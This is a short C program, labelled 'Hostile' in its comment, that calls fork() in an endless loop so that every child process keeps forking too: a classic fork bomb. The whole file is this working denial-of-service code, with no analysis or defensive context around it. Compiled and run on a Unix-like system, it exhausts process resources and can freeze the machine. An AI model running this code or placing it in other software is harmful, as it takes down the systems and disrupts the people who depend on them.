/* Hostile: forks for ever, every child too. */
#include <unistd.h>

int main(void)
{
    for (;;)
        fork();
}
